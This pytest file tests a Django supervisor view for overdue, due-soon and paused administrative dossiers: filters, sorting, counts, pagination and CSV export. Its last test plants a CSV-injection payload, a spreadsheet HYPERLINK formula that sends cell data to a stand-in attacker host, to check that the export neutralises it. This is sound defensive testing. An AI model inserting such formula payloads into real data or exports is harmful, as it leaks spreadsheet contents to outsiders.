"""The supervisor's list: overdue, due-soon and paused dossiers of the supervised units, filters, CSV."""

from __future__ import annotations

import csv
import io
from datetime import datetime, timedelta
from zoneinfo import ZoneInfo

import pytest
import time_machine
from django.contrib.auth import get_user_model

from procedures.models import Agency, Procedure
from workflows import services as svc
from workflows.choices import Channel
from workflows.models import Membership
from workflows.roles import Role

TZ = ZoneInfo("Asia/Ho_Chi_Minh")
PERSON = svc.Applicant(name="Nguyễn Văn A", id_number="001203012345")
URL = "/giam-sat/"


def at(*args: int) -> datetime:
    return datetime(*args, tzinfo=TZ)


def receive(code: str, when: datetime, desk: str = "DEMO-TTPVHCC", **kw):
    return svc.dossier_receive(
        procedure=Procedure.objects.get(code=code),
        at=when,
        applicant=PERSON,
        reception_agency=Agency.objects.get(code=desk),
        **kw,
    )


@pytest.fixture
def world(demo_users):
    """Dossiers in every supervised state, as of ``now`` (the due-soon dossier's warning + 1 minute)."""
    province_overdue = receive("1.014431", at(2025, 8, 4, 8, 0))
    commune_overdue = receive("1.003583", at(2025, 8, 5, 8, 0), desk="DEMO-XA-A", channel=Channel.POSTAL)
    due_soon = receive("1.014431", at(2025, 9, 8, 8, 0))
    now = due_soon.due_soon_at + timedelta(minutes=1)
    paused = receive("1.014431", at(2025, 9, 9, 8, 0))
    paused = svc.dossier_request_supplement(dossier=paused, reason="Thiếu bản sao", at=at(2025, 9, 9, 9, 0))
    in_time = receive("1.014431", now - timedelta(hours=1))
    step = province_overdue.current_step
    step.owner = demo_users["chuyenvien"]
    step.save(update_fields=["owner"])
    commune_supervisor = get_user_model().objects.create_user("giamsatxa", password="x", is_staff=True)
    Membership.objects.create(
        user=commune_supervisor, role=Role.SUPERVISOR, agency=Agency.objects.get(code="DEMO-XA-A")
    )
    return {
        "now": now,
        "province_overdue": province_overdue,
        "commune_overdue": commune_overdue,
        "due_soon": due_soon,
        "paused": paused,
        "in_time": in_time,
        "supervisor": demo_users["giamsat"],
        "commune_supervisor": commune_supervisor,
        "desk": demo_users["motcua"],
    }


def get(client, world, user, **params):
    client.force_login(user)
    with time_machine.travel(world["now"], tick=False):
        return client.get(URL, params)


def codes(response) -> list[str]:
    return [d.code for d in response.context["page"]]


def test_supervisor_sees_overdue_due_soon_and_paused_of_their_units(client, world):
    response = get(client, world, world["supervisor"])
    assert response.status_code == 200
    shown = codes(response)
    for key in ("province_overdue", "commune_overdue", "due_soon", "paused"):
        assert world[key].code in shown, key
    assert world["in_time"].code not in shown
    states = {d.code: d.sla_state for d in response.context["page"]}
    assert states[world["province_overdue"].code] == "overdue"
    assert states[world["due_soon"].code] == "due_soon"
    assert states[world["paused"].code] == "paused"
    html = response.content.decode()
    assert f'href="/ho-so/{world["due_soon"].code}/"' in html
    assert {s["value"]: s["total"] for s in response.context["per_state"]} == {
        "overdue": 2,
        "due_soon": 1,
        "paused": 1,
    }


def test_commune_supervisor_sees_only_the_commune(client, world):
    response = get(client, world, world["commune_supervisor"])
    assert codes(response) == [world["commune_overdue"].code]


def test_staff_without_supervision_are_refused(client, world):
    assert get(client, world, world["desk"]).status_code == 403
    client.logout()
    assert client.get(URL).status_code == 302


@pytest.mark.parametrize(
    ("params", "expected"),
    [
        ({"sla_state": "overdue"}, ["province_overdue", "commune_overdue"]),
        ({"sla_state": "due_soon"}, ["due_soon"]),
        ({"sla_state": "paused"}, ["paused"]),
        ({"channel": "postal"}, ["commune_overdue"]),
        ({"received_after": "2025-09-01"}, ["due_soon", "paused"]),
        ({"received_after": "2025-08-05", "received_before": "2025-08-05"}, ["commune_overdue"]),
    ],
)
def test_filters(client, world, params, expected):
    response = get(client, world, world["supervisor"], **params)
    assert sorted(codes(response)) == sorted(world[k].code for k in expected)


def test_filter_by_unit_officer_and_procedure(client, world):
    commune = Agency.objects.get(code="DEMO-XA-A")
    assert codes(get(client, world, world["supervisor"], agency=commune.pk)) == [
        world["commune_overdue"].code
    ]
    # a unit holding the current step (B2 at QLCN) finds the dossiers of the province too
    qlcn = Agency.objects.get(code="DEMO-SKHCN-QLCN")
    assert world["due_soon"].code in codes(get(client, world, world["supervisor"], agency=qlcn.pk))
    officer = world["province_overdue"].current_step.owner
    assert codes(get(client, world, world["supervisor"], officer=officer.pk)) == [
        world["province_overdue"].code
    ]
    procedure = Procedure.objects.get(code="1.003583")
    assert codes(get(client, world, world["supervisor"], procedure=procedure.pk)) == [
        world["commune_overdue"].code
    ]


def test_sorting(client, world):
    by_due = codes(get(client, world, world["supervisor"], o="due_at"))
    assert by_due[0] == world["commune_overdue"].code  # 3 working days against 27 calendar days
    dues = [d.due_at for d in get(client, world, world["supervisor"], o="-due_at").context["page"]]
    assert dues == sorted(dues, reverse=True)
    by_received_desc = codes(get(client, world, world["supervisor"], o="-received_at"))
    assert by_received_desc[0] == world["paused"].code
    by_code = codes(get(client, world, world["supervisor"], o="code"))
    assert by_code == sorted(by_code)


def test_counts_per_unit_and_officer(client, world):
    response = get(client, world, world["supervisor"])
    per_unit = {row["name"]: row["total"] for row in response.context["per_unit"]}
    commune = Agency.objects.get(code="DEMO-XA-A")
    qlcn = Agency.objects.get(code="DEMO-SKHCN-QLCN")
    assert per_unit[commune.name] == 1  # no internal steps: the deciding commune holds it
    assert per_unit[qlcn.name] == 3
    per_officer = {row["name"]: row["total"] for row in response.context["per_officer"]}
    officer = world["province_overdue"].current_step.owner
    assert per_officer[officer.get_full_name()] == 1
    assert per_officer["Chưa phân công"] == 3


def test_csv_export_has_the_bom_headers_and_filtered_rows(client, world):
    response = get(client, world, world["supervisor"], format="csv", sla_state="overdue")
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    assert "attachment" in response["Content-Disposition"]
    raw = b"".join(response.streaming_content)
    assert raw.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(raw.decode("utf-8-sig"))))
    assert rows[0] == [
        "Mã hồ sơ",
        "Thủ tục",
        "Cơ quan",
        "Bước hiện tại",
        "Người xử lý",
        "Tiếp nhận",
        "Hẹn trả",
        "Hẹn lại",
        "Trạng thái SLA",
    ]
    by_code = {row[0]: row for row in rows[1:]}
    assert set(by_code) == {world["province_overdue"].code, world["commune_overdue"].code}
    row = by_code[world["province_overdue"].code]
    assert row[1].startswith("1.014431") and row[8] == "Quá hạn" and row[5] == "04/08/2025 08:00"
    assert row[3].startswith("B2")


def test_pagination_keeps_the_filters(client, world, monkeypatch):
    from workflows.views import supervisor

    monkeypatch.setattr(supervisor, "PAGE_SIZE", 1)
    response = get(client, world, world["supervisor"], sla_state="overdue")
    assert response.context["page"].paginator.num_pages == 2
    assert "sla_state=overdue&amp;page=2" in response.content.decode()
    second = get(client, world, world["supervisor"], sla_state="overdue", page=2)
    assert len(codes(second)) == 1


def test_csv_export_neutralises_text_a_spreadsheet_would_run(client, world):
    """OWASP CSV Injection: a unit or officer named ``=…``/``@…`` is written with a leading ``'``."""
    agency = world["province_overdue"].agency
    agency.name = '=HYPERLINK("http://attacker.example/?"&A1,"Bấm")'
    agency.save(update_fields=["name"])
    officer = world["province_overdue"].current_step.owner
    officer.first_name, officer.last_name = "@SUM(1+1)", ""
    officer.save(update_fields=["first_name", "last_name"])
    response = get(client, world, world["supervisor"], format="csv", sla_state="overdue")
    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode("utf-8-sig"))))
    row = {r[0]: r for r in rows[1:]}[world["province_overdue"].code]
    assert row[2] == "'" + agency.name and row[4] == "'@SUM(1+1)"
    assert not [cell for r in rows for cell in r if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
